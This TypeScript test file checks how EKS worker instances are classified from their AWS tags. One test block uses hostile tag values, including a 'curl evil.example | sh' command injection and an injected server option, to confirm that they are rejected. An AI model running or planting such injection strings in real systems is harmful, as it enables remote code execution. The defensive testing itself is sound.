import { expect, it } from 'vitest';
import { ownerOf, workerOf } from './worker.ts';

const instance = (tags: Readonly<Record<string, string>>, more: object = {}) => ({
  Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })),
  ...more,
});

it.each([
  [
    'managed',
    { 'aws:eks:cluster-name': 'shop', 'eks:cluster-name': 'shop', 'eks:nodegroup-name': 'web' },
    { cluster: 'shop', ownership: 'managed', nodegroup: 'web', certain: true },
  ],
  [
    'of Karpenter',
    { 'eks:eks-cluster-name': 'shop', 'karpenter.sh/nodepool': 'general' },
    { cluster: 'shop', ownership: 'karpenter', nodegroup: 'karpenter:general', certain: false },
  ],
  [
    'self-managed, in an Auto Scaling group',
    { 'kubernetes.io/cluster/shop': 'owned', 'aws:autoscaling:groupName': 'tools' },
    { cluster: 'shop', ownership: 'self-managed', nodegroup: 'self-managed:tools', certain: false },
  ],
  ['joined by hand', { 'aws:eks:cluster-name': 'shop' }, { cluster: 'shop', ownership: 'self-managed', certain: true }],
])('a worker that is %s is known by its tags', (_what, tags, worker) => {
  expect(workerOf(instance(tags))).toEqual(worker);
});

it.each([
  ['a command', 'x; curl evil.example | sh'],
  ['a link', '[approve](https://evil.example)'],
  ['lines', 'x\n-> y'],
  ['an option', '--server=https://evil.example'],
  ['more than a label has room for', 'x'.repeat(64)],
  ['more than the ledger has room for', '\u{1f600}'.repeat(256)],
])('a tag that holds %s names no group', (_what, name) => {
  const ours = { 'aws:eks:cluster-name': 'shop' };
  const pool = workerOf(instance({ ...ours, 'karpenter.sh/nodepool': name }));
  expect(pool).toEqual({ cluster: 'shop', ownership: 'karpenter', certain: true });
  const group = workerOf(instance({ ...ours, 'eks:nodegroup-name': name }));
  expect(group).toEqual({ cluster: 'shop', ownership: 'self-managed', certain: true });
});

it.each<[string, Record<string, string>, object]>([
  ['removes the tag', {}, { ownership: 'managed', nodegroup: 'web' }],
  ['names another group', { 'eks:nodegroup-name': 'other' }, { ownership: 'managed', nodegroup: 'web' }],
  ['names a node pool', { 'karpenter.sh/nodepool': 'general' }, { ownership: 'managed', nodegroup: 'web' }],
])('a worker that has joined stays in the node group of its Auto Scaling group, where somebody %s', (_, more, is) => {
  const group = { 'aws:autoscaling:groupName': 'eks-web-0a1b2c3d-0a1b-2c3d-4e5f-0a1b2c3d4e5f' };
  expect(workerOf(instance({ 'aws:eks:cluster-name': 'shop', ...group, ...more }))).toMatchObject(is);
});

it.each([
  ['EKS names without the node group, as it did until 2021', 'eks-40bbb26b-8679-eb64-d33a-4ba475413529', 'web'],
  ['is self-managed', 'batch', 'self-managed:batch'],
])(
  'a worker that has joined, and whose Auto Scaling group %s (%s), is of the group %s',
  (_, autoScalingGroup, nodegroup) => {
    const tags = { 'eks:nodegroup-name': 'web', 'aws:autoscaling:groupName': autoScalingGroup };
    expect(workerOf(instance({ 'aws:eks:cluster-name': 'shop', ...tags }))).toMatchObject({ nodegroup });
  },
);

it('a worker of EKS Auto Mode is known by its operator', () => {
  const operated = { Operator: { Managed: true, Principal: 'eks.amazonaws.com' } };
  expect(workerOf(instance({ 'aws:eks:cluster-name': 'shop' }, operated))).toMatchObject({ ownership: 'auto-mode' });
});

it.each([
  ['no tag', {}],
  ['an empty cluster name', { 'aws:eks:cluster-name': '' }],
  ['a tag of what clusters share', { 'kubernetes.io/cluster/shop': 'shared' }],
  ['a cluster that somebody wrote on it', { 'eks:cluster-name': 'shop' }],
  ['a node group without a cluster', { 'eks:nodegroup-name': 'web' }],
  ['a node pool alone', { 'karpenter.sh/nodepool': 'general' }],
])('an instance with %s is none', (_what, tags) => {
  expect(workerOf(instance(tags))).toBeUndefined();
});

it.each([
  ['of a managed node group', { 'aws:autoscaling:groupName': 'eks-web' }, 'managed'],
  ['that was detached from the group', {}, 'stray'],
])('a worker %s is owned by: %s', (_what, more, owner) => {
  const tags = { 'aws:eks:cluster-name': 'shop', 'eks:nodegroup-name': 'web', ...more };
  expect(ownerOf(instance(tags))).toBe(owner);
});

it.each([
  ['a node pool', { 'aws:eks:cluster-name': 'shop', 'karpenter.sh/nodepool': 'general' }, 'karpenter'],
  ['a self-managed group', { 'kubernetes.io/cluster/shop': 'owned', 'aws:autoscaling:groupName': 'a' }, 'self-managed'],
  ['no group at all', { 'kubernetes.io/cluster/shop': 'owned' }, 'stray'],
  ['no cluster', { 'aws:autoscaling:groupName': 'a' }, undefined],
])('an instance of %s is owned by: %s', (_what, tags, owner) => {
  expect(ownerOf(instance(tags))).toBe(owner);
});

it('an instance of EKS Auto Mode is no stray, although it is in no Auto Scaling group', () => {
  const operated = { Operator: { Managed: true, Principal: 'eks.amazonaws.com' } };
  expect(ownerOf(instance({ 'aws:eks:cluster-name': 'shop' }, operated))).toBe('auto-mode');
});
